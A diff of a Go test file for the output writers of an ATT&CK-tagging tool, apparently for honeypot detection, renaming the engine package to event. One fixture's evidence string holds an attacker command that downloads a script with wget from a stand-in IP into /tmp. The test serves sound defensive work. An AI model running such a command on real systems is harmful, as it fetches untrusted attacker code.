@@ -13,15 +13,15 @@ import (
 	"github.com/go-json-experiment/json/jsontext"
 	"github.com/google/go-cmp/cmp"
 
-	"ttpctl/internal/engine"
+	"ttpctl/internal/event"
 )
 
 // download is a tag as the engine makes them.
-func download() engine.Tag {
-	return engine.Tag{
-		UUID:       engine.TagUUID("command", "s1#cmd0", "R0018", 1, "T1105", ""),
+func download() event.Tag {
+	return event.Tag{
+		UUID:       event.TagUUID("command", "s1#cmd0", "R0018", 1, "T1105", ""),
 		SourceKind: "command", SourceID: "s1#cmd0",
-		AttackerUUID: "3a90f681-a007-5d06-8036-a9c1661decb1", SessionID: engine.Some("s1"),
+		AttackerUUID: "3a90f681-a007-5d06-8036-a9c1661decb1", SessionID: event.Some("s1"),
 		Tactic: "TA0011", Technique: "T1105", Confidence: 0.85, RuleID: "R0018", RuleVersion: 1,
 		Evidence:      []byte(`{"command_text":"cd /tmp; wget http://203.0.113.9/x.sh","matched":"wget http://203.0.113.9/x.sh"}`),
 		AttackRelease: "enterprise-v19.1", MitreURL: "https://attack.mitre.org/techniques/T1105",
@@ -30,10 +30,10 @@ func download() engine.Tag {
 }
 
 // guess is a tag with all that download has not.
-func guess() engine.Tag {
-	return engine.Tag{
-		UUID:       engine.TagUUID("auth_attempt", "auth:h:s2", "R0002", 3, "T1110", "T1110.001"),
-		SourceKind: "auth_attempt", SourceID: "auth:h:s2", IdentityUUID: "id-7", DeckyID: engine.Some(""),
+func guess() event.Tag {
+	return event.Tag{
+		UUID:       event.TagUUID("auth_attempt", "auth:h:s2", "R0002", 3, "T1110", "T1110.001"),
+		SourceKind: "auth_attempt", SourceID: "auth:h:s2", IdentityUUID: "id-7", DeckyID: event.Some(""),
 		Tactic: "TA0006", Technique: "T1110", SubTechnique: "T1110.001", Confidence: 1, RuleID: "R0002", RuleVersion: 3,
 		Evidence: []byte(`{"password_count":12,"username":"root"}`), AttackRelease: "enterprise-v19.1",
 		MitreURL: "https://attack.mitre.org/techniques/T1110/001",
@@ -54,7 +54,7 @@ const (
 )
 
 // write returns what format makes of the batches.
-func write(t *testing.T, format string, o Options, acc *Account, batches ...[]engine.Tag) string {
+func write(t *testing.T, format string, o Options, acc *Account, batches ...[]event.Tag) string {
 	t.Helper()
 	var b bytes.Buffer
 	w, err := NewWriter(format, &b, o)
@@ -85,16 +85,16 @@ func TestWriters(t *testing.T) {
 		`"{""password_count"":12,""username"":""root""}",enterprise-v19.1,https://attack.mitre.org/techniques/T1110/001,` + "\n"
 	tests := []struct {
 		format string
-		tags   []engine.Tag
+		tags   []event.Tag
 		want   string
 	}{
-		{"jsonl", []engine.Tag{d, g}, dj + "\n" + gj + "\n"},
+		{"jsonl", []event.Tag{d, g}, dj + "\n" + gj + "\n"},
 		{"jsonl", nil, ""},
-		{"json", []engine.Tag{d, g}, headJSON + "\n" + dj + ",\n" + gj + "\n]" + foot},
+		{"json", []event.Tag{d, g}, headJSON + "\n" + dj + ",\n" + gj + "\n]" + foot},
 		{"json", nil, headJSON + "\n]" + foot},
-		{"csv", []engine.Tag{d, g}, header + rows},
+		{"csv", []event.Tag{d, g}, header + rows},
 		{"csv", nil, header},
-		{"none", []engine.Tag{d, g}, ""},
+		{"none", []event.Tag{d, g}, ""},
 		{"table", nil, "no techniques found\n"},
 	}
 	for _, tt := range tests {
@@ -107,7 +107,7 @@ func TestWriters(t *testing.T) {
 
 // Batches are the pipeline's affair: no output shows where they ended.
 func TestWritersAnyBatches(t *testing.T) {
-	var tags []engine.Tag
+	var tags []event.Tag
 	for i := range 40 {
 		d, g := download(), guess()
 		d.SourceID, d.AttackerUUID = fmt.Sprintf("s%d#cmd0", i), fmt.Sprintf("attacker-%d", i%7)
@@ -140,7 +140,7 @@ func (w *smallWriter) Write(p []byte) (int, error) {
 
 // A batch of many tags is handed on piece by piece: memory stays flat.
 func TestWritersFlatMemory(t *testing.T) {
-	tags := slices.Repeat([]engine.Tag{download()}, 5000)
+	tags := slices.Repeat([]event.Tag{download()}, 5000)
 	for _, format := range Formats() {
 		w := &smallWriter{max: chunk + 8<<10}
 		out, _ := NewWriter(format, w, Options{})
@@ -163,7 +163,7 @@ func TestWritersReportErrors(t *testing.T) {
 		if err != nil {
 			t.Fatal(err)
 		}
-		err = w.Write([]engine.Tag{download()})
+		err = w.Write([]event.Tag{download()})
 		if err == nil {
 			err = w.Finish(&Account{})
 		}
@@ -181,7 +181,7 @@ func TestNewWriterUnknown(t *testing.T) {
 }
 
 func TestDocumentReadsBack(t *testing.T) {
-	text := write(t, "json", Options{Meta: meta}, &Account{Tags: 2}, []engine.Tag{download(), guess()})
+	text := write(t, "json", Options{Meta: meta}, &Account{Tags: 2}, []event.Tag{download(), guess()})
 	var doc struct {
 		Schema  string           `json:"schema"`
 		Data    []jsontext.Value `json:"data"`
@@ -213,7 +213,7 @@ func TestCSVHasEveryField(t *testing.T) {
 	if diff := cmp.Diff(members, tagColumns[:]); diff != "" {
 		t.Errorf("columns of CSV against members of JSON (-json +csv):\n%s", diff)
 	}
-	rows, err := csv.NewReader(strings.NewReader(write(t, "csv", Options{}, nil, []engine.Tag{tag}))).ReadAll()
+	rows, err := csv.NewReader(strings.NewReader(write(t, "csv", Options{}, nil, []event.Tag{tag}))).ReadAll()
 	if err != nil || len(rows) != 2 {
 		t.Fatalf("CSV reads back as %d rows, %v, want 2", len(rows), err)
 	}
